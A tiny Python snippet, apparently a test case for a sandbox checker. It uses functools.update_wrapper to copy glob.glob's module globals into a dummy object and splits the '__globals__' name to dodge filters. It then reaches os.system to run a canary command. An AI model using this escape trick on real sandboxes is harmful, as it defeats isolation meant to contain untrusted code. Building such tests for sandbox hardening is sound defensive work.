# reaches: functools.wraps merges a function's globals into a dictionary of the program
import functools, glob
class Keep:
    pass
keep = Keep()
keep.__globals__ = {}
functools.update_wrapper(keep, glob.glob, assigned=(), updated=("__glo" + "bals__",))
keep.__globals__["os"].system("/srv/canary")
